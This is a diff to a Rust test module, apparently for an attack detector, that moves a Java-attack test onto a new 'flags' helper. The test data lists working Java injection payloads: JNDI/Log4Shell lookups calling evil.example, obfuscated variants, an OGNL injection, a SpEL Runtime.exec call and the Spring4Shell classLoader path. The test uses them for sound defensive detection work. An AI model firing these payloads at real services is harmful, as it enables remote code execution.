@@ -122,24 +122,25 @@ fn flatten_lookups(s: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::detect::testing::{families, hits};
+    use crate::detect::testing::{families, flags, hits};
     use crate::extract::Kind;
 
     #[test]
     fn detects_java_attacks() {
-        for p in [
-            "${jndi:ldap://evil.example/a}",
-            "${${lower:j}ndi:ldap://x/a}",
-            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
-            "java.lang.Runtime",
-            "ProcessBuilder.evil.instantiatetransformer",
-            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
-            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
-            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
-            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
-        ] {
-            assert!(families(p).contains(&"java"), "{p}");
-        }
+        flags(
+            "java",
+            &[
+                "${jndi:ldap://evil.example/a}",
+                "${${lower:j}ndi:ldap://x/a}",
+                "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+                "java.lang.Runtime",
+                "ProcessBuilder.evil.instantiatetransformer",
+                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+                "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
+            ],
+        );
     }
 
     #[test]
